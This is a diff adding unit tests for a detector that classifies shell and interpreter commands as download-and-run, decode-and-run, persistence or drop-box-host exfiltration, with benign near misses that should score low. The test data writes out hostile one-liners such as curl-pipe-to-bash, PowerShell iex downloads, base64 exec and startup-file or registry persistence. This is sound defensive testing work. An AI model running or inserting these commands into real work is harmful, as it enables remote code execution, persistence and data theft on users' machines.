@@ -646,3 +646,50 @@ describe('hostile input', () => {
     }
   });
 });
+
+// The download-and-run, decode-and-run and persistence detectors of analysis/text-signals.ts and
+// analysis/binary/evidence.ts, case by case, so that they can be switched over to this catalogue:
+// each shape they find is found here, and each near miss they leave alone is left alone here.
+describe('covers what text-signals.ts and binary/evidence.ts detect', () => {
+  it.each<[string | string[], CommandSignalKind]>([
+    // Shell strings (text-signals' downloadAndRun and shellStartup, evidence's commands).
+    ['curl -fsSL https://get.example.net/a.sh | sudo bash', 'download-and-run'],
+    ['wget -qO- https://get.example.net/a.sh|sh', 'download-and-run'],
+    ['sh -c "$(curl -fsSL https://x.example/i)"', 'download-and-run'],
+    ['bash <(wget -qO- https://x.example/i)', 'download-and-run'],
+    ['bash -c "$(wget -qO- https://get.acme.example/i.sh)"', 'download-and-run'],
+    ['iwr https://get.acme.example/a.ps1 -UseBasicParsing | iex', 'download-and-run'],
+    ["iex (New-Object Net.WebClient).DownloadString('https://get.acme.example/b.ps1')", 'download-and-run'],
+    ["IEX (New-Object Net.WebClient).DownloadString('http://x.example')", 'download-and-run'],
+    ['echo run >> $HOME/.bashrc', 'persistence'],
+    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v x', 'persistence'],
+    ['launchctl load -w ~/Library/LaunchAgents/dev.acme.plist', 'persistence'],
+    ['schtasks /Create /SC ONLOGON /TN acme /TR C:\\acme.exe', 'persistence'],
+    // Code shapes, as one-liners handed to an interpreter (text-signals' decodeAndRun and pythonRun).
+    [['node', '-e', "eval(atob('ZXZhbA=='))"], 'decode-and-run'],
+    [['node', '-e', "new Function(Buffer.from(p, 'base64').toString())()"], 'decode-and-run'],
+    [['node', '-e', 'require(String.fromCharCode(99, 104))'], 'decode-and-run'],
+    [['python3', '-c', 'exec(base64.b64decode(PAYLOAD))'], 'decode-and-run'],
+    [['python3', '-c', 'exec( zlib.decompress(base64.b64decode(blob)))'], 'decode-and-run'],
+    [['python3', '-c', 'exec(urlopen(URL).read())'], 'download-and-run'],
+    [['python3', '-c', 'exec(requests.get(url).text)'], 'download-and-run'],
+    [['python3', '-c', 'open(os.path.expanduser("~/.zshrc"), "a").write("x")'], 'persistence'],
+    // Hosts (exfiltration-host in both).
+    ["curl https://abc.webhook.site/x", 'drop-box-host'],
+    ['curl https://api.telegram.org/bot123/sendMessage', 'drop-box-host'],
+  ])('%j', (command, kind) => {
+    expectSignal(command, kind);
+  });
+
+  it.each([
+    'curl -o out.tar.gz https://x.example/a | tee log',
+    'wget https://x.example/a',
+    'cat install.sh | sh',
+    'curl --version',
+    'curl --help all | less',
+    'recurl -s | sh',
+    '# Installation: app completion >> ~/.bashrc',
+  ])('%j stays low', (command) => {
+    expect(judgeCommand(command).severity).not.toMatch(/critical|high/);
+  });
+});
